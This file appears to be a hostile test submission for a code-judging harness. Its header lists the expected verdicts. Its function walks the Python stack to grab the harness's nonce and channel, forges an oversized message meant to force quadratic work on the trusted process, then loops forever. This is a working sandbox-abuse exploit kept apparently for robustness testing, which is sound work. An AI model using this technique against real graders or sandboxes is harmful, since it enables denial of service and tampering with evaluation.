# /// hostile
# verdicts = ["wrong_answer", "runtime_error", "output_limit"]
# danger = "A small frame whose sizes multiply to a number of megabytes: quadratic work for the trusted process."
# problem = "vault"
# ///
import os
import struct
import sys


def f(x):
    frame = sys._getframe()
    while frame:
        harness = frame.f_locals.get("self")
        if getattr(harness, "nonce", None):
            sizes = ",".join(["9007199254740991"] * 230_000)
            text = f'{{"n":"{harness.nonce}","v":["a","<i8",[{sizes},0],[]]}}'.encode()
            data = struct.pack("<I", len(text)) + text
            while data:
                data = data[os.write(harness.channel.descriptor, data) :]
            while True:
                sys._getframe()
        frame = frame.f_back
    return x
